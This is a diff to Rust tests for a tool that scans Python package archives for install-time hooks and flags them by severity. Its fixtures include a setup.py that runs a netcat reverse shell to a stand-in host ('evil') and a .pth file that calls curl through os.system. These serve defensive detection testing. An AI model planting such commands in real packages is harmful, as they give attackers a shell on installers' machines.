@@ -26,14 +26,14 @@ fn sdist(entries: &[(&str, &[u8])]) -> Vec<u8> {
     tar.into_inner().unwrap().finish().unwrap()
 }
 
-const METADATA: &[u8] = b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nRequires-Dist: six\n";
+const METADATA: &[u8] = b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nSummary: A demo\nAuthor: Ann\nRequires-Dist: six\n";
 
 fn findings_of<'a>(report: &'a Report, rule: &str) -> Vec<&'a airlock_inspect::Finding> {
     report.findings.iter().filter(|f| f.rule == rule).collect()
 }
 
 #[test]
-fn a_plain_setup_py_is_medium_and_an_active_one_is_high_at_its_line() {
+fn a_plain_setup_py_is_medium_and_a_process_it_starts_is_high_at_its_line() {
     let plain = sdist(&[("demo-1.0/PKG-INFO", METADATA), ("demo-1.0/setup.py", b"from setuptools import setup\nsetup(name='demo')\n")]);
     let report = inspect_archive("demo-1.0.tar.gz", &plain, &Limits::default());
     let f = findings_of(&report, "install-hook/setup-py");
@@ -43,11 +43,13 @@ fn a_plain_setup_py_is_medium_and_an_active_one_is_high_at_its_line() {
 
     let active = sdist(&[
         ("demo-1.0/PKG-INFO", METADATA),
-        ("demo-1.0/setup.py", b"from setuptools import setup\n# import os is fine in a comment\nimport subprocess\nsetup()\n"),
+        ("demo-1.0/setup.py", b"from setuptools import setup\n# subprocess.call(['x']) in a comment is not a call\nimport subprocess\nsubprocess.call(['nc', '-e', '/bin/sh', 'evil'])\nsetup()\n"),
     ]);
     let report = inspect_archive("demo-1.0.tar.gz", &active, &Limits::default());
-    let f = findings_of(&report, "install-hook/setup-py");
-    assert_eq!((f[0].severity, f[0].line, f[0].snippet.as_deref()), (Severity::High, Some(3), Some("import subprocess")));
+    let f = findings_of(&report, "access/process-on-install");
+    assert_eq!(f.len(), 1, "{:?}", report.findings);
+    assert_eq!((f[0].severity, f[0].line), (Severity::High, Some(4)));
+    assert_eq!(f[0].snippet.as_deref(), Some("subprocess.call(['nc', '-e', '/bin/sh', 'evil'])"));
 }
 
 #[test]
@@ -63,6 +65,7 @@ fn pth_files_with_imports_are_high_and_path_only_ones_medium() {
         ("demo-1.0.dist-info/METADATA", METADATA),
         ("paths.pth", b"some/dir\n"),
         ("hook.pth", b"# comment\nimport os; os.system('curl x')\n"),
+        ("benign.pth", b"import sys; sys.path.insert(0, 'x')\n"),
     ]);
     let report = inspect_archive("demo-1.0-py3-none-any.whl", &w, &Limits::default());
     let f = findings_of(&report, "install-hook/pth-file");
@@ -70,6 +73,8 @@ fn pth_files_with_imports_are_high_and_path_only_ones_medium() {
     let paths = f.iter().find(|f| f.file.as_deref() == Some("paths.pth")).unwrap();
     assert_eq!((hook.severity, hook.line), (Severity::High, Some(2)));
     assert_eq!(paths.severity, Severity::Medium);
+    let benign = f.iter().find(|f| f.file.as_deref() == Some("benign.pth")).unwrap();
+    assert_eq!((benign.severity, benign.line), (Severity::Medium, Some(1)), "an import line that only edits sys.path");
     assert_eq!(report.metadata_file.as_deref(), Some(METADATA));
 }
 
